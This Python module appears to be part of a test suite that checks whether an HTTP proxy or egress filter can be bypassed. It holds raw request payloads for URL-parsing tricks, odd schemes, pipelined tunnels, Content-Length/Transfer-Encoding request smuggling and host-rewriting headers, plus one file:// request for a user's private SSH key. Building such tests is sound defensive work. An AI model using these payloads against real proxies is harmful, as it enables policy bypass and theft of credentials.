"""Requests without TLS: the proxy reads them, so that two readers could understand them differently."""

from __future__ import annotations

from .base import Judge, Target, attack, each
from .wire import tell

_REQUESTS: dict[str, object] = {
    "the attacker's": b"GET http://%e/ HTTP/1.1\r\nHost: %e\r\n\r\n",
    "the attacker's, allowed Host": b"GET http://%e/ HTTP/1.1\r\nHost: %p\r\n\r\n",
    "no absolute form": b"GET / HTTP/1.1\r\nHost: %e\r\n\r\n",
    "no absolute form, POST": b"POST /x HTTP/1.1\r\nHost: %e\r\nContent-Length: 1\r\n\r\nx",
    "user@": b"GET http://%p@%e/ HTTP/1.1\r\nHost: %p\r\n\r\n",
    "backslash": b"GET http://%e\\@%p/ HTTP/1.1\r\nHost: %p\r\n\r\n",
    "no slashes": b"GET http:%e/ HTTP/1.1\r\nHost: %e\r\n\r\n",
    "one slash": b"GET http:/%e/ HTTP/1.1\r\nHost: %e\r\n\r\n",
    "no scheme": b"GET //%e/ HTTP/1.1\r\nHost: %e\r\n\r\n",
    "https by the proxy": b"GET https://%e/ HTTP/1.1\r\nHost: %e\r\n\r\n",
    "ftp": b"GET ftp://%e/ HTTP/1.1\r\nHost: %e\r\n\r\n",
    "gopher": b"GET gopher://%e:80/_x HTTP/1.1\r\nHost: %e\r\n\r\n",
    "websocket": b"GET ws://%e/ HTTP/1.1\r\nHost: %e\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
    "own method": b"PURGE http://%e/ HTTP/1.1\r\nHost: %e\r\n\r\n",
    "pipelined behind an allowed one": b"GET http://%p/ HTTP/1.1\r\nHost: %p\r\n\r\nGET http://%e/ HTTP/1.1\r\nHost: %e\r\n\r\n",
    "tunnel behind an allowed one": b"GET http://%p/ HTTP/1.1\r\nHost: %p\r\n\r\nCONNECT %e:443 HTTP/1.1\r\nHost: %e\r\n\r\n",
    "length and chunks": b"POST http://%p/ HTTP/1.1\r\nHost: %p\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://%e/ HTTP/1.1\r\nHost: %e\r\n\r\n",
    "two lengths": b"POST http://%p/ HTTP/1.1\r\nHost: %p\r\nContent-Length: 0\r\nContent-Length: 60\r\n\r\nGET http://%e/ HTTP/1.1\r\nHost: %e\r\n\r\n",
    "redirecting headers": b"GET http://%p/ HTTP/1.1\r\nHost: %e\r\nX-Forwarded-Host: %e\r\nX-Rewrite-URL: http://%e/\r\nForwarded: host=%e\r\n\r\n",
}


@each(Judge.PACKET, "plain request", _REQUESTS)
def request(target: Target, case: object) -> str:
    return tell(_filled(target, case))


def _filled(target: Target, case: object) -> bytes:
    data = bytes(case)  # type: ignore[call-overload]
    for mark, value in ((b"%p", target.world.plain), (b"%e", target.name), (b"%n", target.nonce), (b"%w", target.wild)):
        data = data.replace(mark, value.encode())
    return data


_SMUGGLED: dict[str, object] = {
    "behind a request without a body": b"GET http://%p/ HTTP/1.1\r\nHost: %p\r\n\r\nGET /%n HTTP/1.1\r\nHost: %p\r\n\r\n",
    "length and chunks": b"POST http://%p/ HTTP/1.1\r\nHost: %p\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /%n HTTP/1.1\r\nHost: %p\r\n\r\n",
    "two lengths": b"POST http://%p/ HTTP/1.1\r\nHost: %p\r\nContent-Length: 0\r\nContent-Length: 60\r\n\r\nGET /%n HTTP/1.1\r\nHost: %p\r\n\r\n",
    "chunks spelt otherwise": b"POST http://%p/ HTTP/1.1\r\nHost: %p\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\nGET /%n HTTP/1.1\r\nHost: %p\r\n\r\n",
    "length with a sign": b"POST http://%p/ HTTP/1.1\r\nHost: %p\r\nContent-Length: +0\r\n\r\nGET /%n HTTP/1.1\r\nHost: %p\r\n\r\n",
    "to an allowed host, but without TLS": b"GET http://%w/%n HTTP/1.1\r\nHost: %w\r\n\r\n",
    "to an allowed host's TLS port": b"GET http://%w:443/%n HTTP/1.1\r\nHost: %w\r\n\r\n",
    "asked to stay open": b"GET http://%p/ HTTP/1.1\r\nHost: %p\r\nConnection: keep-alive\r\n\r\nPOST /%n HTTP/1.1\r\nHost: %p\r\nContent-Length: 0\r\n\r\n",
    "hop-by-hop trick": b"GET http://%p/ HTTP/1.1\r\nHost: %p\r\nConnection: content-length\r\nContent-Length: 50\r\n\r\nGET /%n HTTP/1.1\r\nHost: %p\r\n\r\n",
}


@each(Judge.SMUGGLED, "a request that nobody decided on", _SMUGGLED)
def smuggled(target: Target, case: object) -> str:
    return tell(_filled(target, case))


@attack(Judge.SECRET, "a file by the proxy", secret="ssh")
def file(target: Target) -> str:
    path = f"{target.world.home}/.ssh/id_ed25519"
    return tell(f"GET file://{path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode())
